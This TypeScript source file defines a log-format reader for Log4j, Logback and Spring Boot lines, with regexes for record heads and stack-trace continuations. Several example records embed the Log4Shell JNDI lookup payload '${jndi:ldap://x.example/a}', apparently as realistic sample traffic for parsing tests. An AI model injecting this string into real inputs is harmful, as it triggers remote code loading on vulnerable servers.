import { readTime } from '../time/read-time.ts'
import { type LogFormat, type Span, sayingNothing } from './format.ts'
import { lineAt } from './parts.ts'

/**
 * What programs on Log4j, Logback and Spring Boot write by default: time, level, thread and logger in some order, then the
 * message. Lines of a stack trace, and others that only go on, belong to the record above them.
 */
export const application: LogFormat = {
  id: 'application',
  summary:
    'lines of Log4j, Logback, Spring Boot and their like, with the stack traces and other lines that follow them',
  definedBy: 'https://logging.apache.org/log4j/2.x/manual/pattern-layout.html',
  examples: {
    reads: [
      {
        record: '2021-12-12 04:25:41,123 ERROR [main] com.example.Login - login of ${jndi:ldap://x.example/a} failed',
        when: '2021-12-12T04:25:41.123Z',
      },
      {
        record:
          '2021-12-12 04:25:41.123  INFO 4711 --- [nio-8080-exec-1] c.e.demo.Controller : hello ${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.123Z',
      },
      {
        record: '04:25:41.123 [main] WARN com.example.Login - no day, so no time',
      },
      {
        record:
          '[2021-12-12T04:25:41,123][INFO ][o.e.n.Node] [a] failed\njava.lang.IllegalStateException: ${jndi:ldap://x.example/a}\n\tat com.example.A.b(A.java:1)',
        when: '2021-12-12T04:25:41.123Z',
      },
    ],
    refuses: [
      '2021-12-12 04:25:41,123 hello',
      'ERROR hello',
      '2021-12-12T04:25:41Z stdout F ERROR hello',
      '\tat a.b.c(D.java:1)',
    ],
  },
  read({ text }, { around }) {
    const head = beginning.exec(text)
    if (head === null) return null
    const [whole] = head
    return {
      ...sayingNothing,
      when: readTime(text, around),
      fields: [
        { name: null, value: text.slice(0, whole.length) },
        { name: 'message', value: text.slice(whole.length) },
      ],
    }
  },
  spans: {
    mayHold: (line) => goesOn.test(line),
    around: recordAround,
  },
}

/** A time, then a level within a few words. */
const beginning =
  /^\[?(?:\d{4}-\d\d-\d\d[T ])?\d\d:\d\d:\d\d(?:[.,]\d{1,9})?(?:Z|[+-]\d\d:?\d\d)?\]?[\s[|]{1,4}(?:(?:\[[^\]\n]{1,120}\]|[\w.$-]{1,120})[\s|]{1,4})?(?:TRACE|DEBUG|INFO|WARN|WARNING|ERROR|FATAL|SEVERE)[\]\s:|]/

/** Lines that no record begins with. */
const goesOn =
  /^(?:\s|Caused by: |Suppressed: |\.\.\. \d|(?:[\w$]{1,80}\.){2,12}[\w$]{1,120}(?:Exception|Error|Throwable)\b)/
const mostLines = 128

function recordAround(piece: string, place: number): Span | null {
  let { start, end } = lineAt(piece, place)
  for (let lines = 0; lines < mostLines && goesOn.test(piece.slice(start, Math.min(end, start + 1_024))); lines++) {
    if (start === 0) return null
    start = lineAt(piece, start - 1).start
  }
  if (!beginning.test(piece.slice(start, start + 1_024))) return null
  for (let lines = 0, at = end + 1; at < piece.length && lines < mostLines; lines++) {
    const line = lineAt(piece, at)
    if (!goesOn.test(piece.slice(line.start, Math.min(line.end, line.start + 1_024)))) break
    end = line.end
    at = end + 1
  }
  return { start, end }
}
